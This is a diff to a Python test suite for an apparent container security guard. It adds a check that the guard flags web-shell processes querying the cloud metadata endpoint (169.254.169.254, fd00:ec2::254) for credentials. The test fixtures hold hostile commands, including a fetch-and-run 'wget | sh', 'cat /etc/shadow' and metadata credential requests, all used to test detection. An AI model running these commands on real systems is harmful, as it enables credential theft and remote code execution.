@@ -45,7 +45,7 @@ ATTACKS = [
 
 
 def image(d):
-    d.import_image(image_tar(extra=((helper("pvran"), "bin/pvran"), (helper("pvran"), "bin/node"), (helper("pvran"), "bin/npm"))), RUN)
+    d.import_image(image_tar(extra=((helper("pvran"), "bin/pvran"), (helper("pvran"), "bin/node"), (helper("pvran"), "bin/npm"), (helper("pvnet"), "bin/php-fpm"))), RUN)
 
 
 def on_disk(name):
@@ -230,7 +230,9 @@ def test_shell(tap):
             fetch = d.run(["node", "/app/server.js", "sh", "wget -q http://127.0.0.1:1/x | sh; sleep 4"], name="fetches", image=RUN)
             d.run(["sh", "-c", "node /app/server.js sh 'cat /etc/shadow; sleep 4'; true"], name="behind-entry", image=RUN)
             healthy = d.run(["node", "wait", "1000"], name="health-check", image=RUN, health=["CMD", "node", "/app/check.js", "sh", "id; wget -q http://127.0.0.1:1/; true"])
-            for one in (dropped, fetch):
+            d.run(["node", "/app/server.js", "sh", "a=169.254.169; pvnet connect $a.254 80; pvnet connect fd00:ec2::254 80; sleep 4"], name="asks-the-cloud", image=RUN)
+            sdk = d.run(["php-fpm", "connect", "169.254.169.254", "80"], name="has-a-role", image=RUN)
+            for one in (dropped, fetch, sdk):
                 one.wait()
             honest = {
                 "entrypoint": ["sh", "-c", "id; exec node /app/server.js"],
@@ -250,6 +252,9 @@ def test_shell(tap):
             tap.ok(n and n["severity"] == "critical" and "that reads an .env file" in n["detail"]["what"], "one that reads credentials is critical", n)
             n = g.wait_notice("exec.web-shell", "behind-entry")
             tap.ok(n and n["severity"] == "critical" and "had node start" in n["detail"]["what"], "so is a server's below a script that is the entry", n)
+            n = g.wait_notice("exec.web-shell", "asks-the-cloud", where=lambda n: "ask 169.254.169.254 for the cloud's credentials" in n["detail"]["what"])
+            tap.ok(n and n["severity"] == "critical" and n["action"] == "alerted", "so is one that asks the cloud for them", g.notices("exec.web-shell"))
+            tap.ok(g.wait_notice("exec.web-shell", "asks-the-cloud", where=lambda n: "ask fd00:ec2::254 for" in n["detail"]["what"]), "over IPv6, too")
             n = g.wait_notice("exec.web-shell", "hacked")
             tap.ok(n and n["action"] == "alerted" and "node start a shell: sh -c id" in n["detail"]["what"], "a server's shell is told", n)
             ev = {e["what"]: e["value"] for e in n["detail"]["evidence"]} if n else {}
@@ -267,7 +272,7 @@ def test_shell(tap):
             tap.ok(g.wait_notice("exec.web-shell", "was-there"), "also of a server that ran before the guard", g.notices("exec.web-shell"))
             time.sleep(1.2)
             told = {n["subject"]["name"] for n in g.notices("exec.web-shell")}
-            tap.eq(told & (set(honest) | {"checked", "health-check"}), set(), "entrypoints, package scripts, shells of shells and docker exec, health checks and wrapped commands do not count")
+            tap.eq(told & (set(honest) | {"checked", "health-check", "has-a-role"}), set(), "entrypoints, package scripts, shells of shells and docker exec, health checks and wrapped commands do not count")
             tap.eq([n["detail"]["what"] for n in g.notices("exec.dropped") if n["subject"]["name"] != "dropped" and n["action"] == "blocked"],
                    [], "and what they bring runs")
 
